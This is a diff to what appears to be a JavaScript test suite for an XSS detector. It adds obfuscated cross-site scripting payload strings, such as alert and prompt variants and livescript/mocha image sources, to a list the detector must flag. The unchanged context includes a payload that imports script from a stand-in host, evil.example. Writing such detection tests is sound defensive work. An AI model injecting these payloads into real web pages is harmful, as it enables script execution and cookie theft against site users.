@@ -28,5 +28,11 @@ test.each([
   "';top['al'+'ert'](1)//",
   "';import('//evil.example')//",
   'document.cookie',
+  '<img src="livescript:[code]">',
+  '<img src=mocha:x>',
+  "top['al'+'ert'](1)",
+  '(alert)(1)',
+  '[1].find(alert)',
+  'a=prompt,a(1)',
   'top.location',
 ])('%s is an attack', (text) => expect(codes(text)).toContain('XSS'))
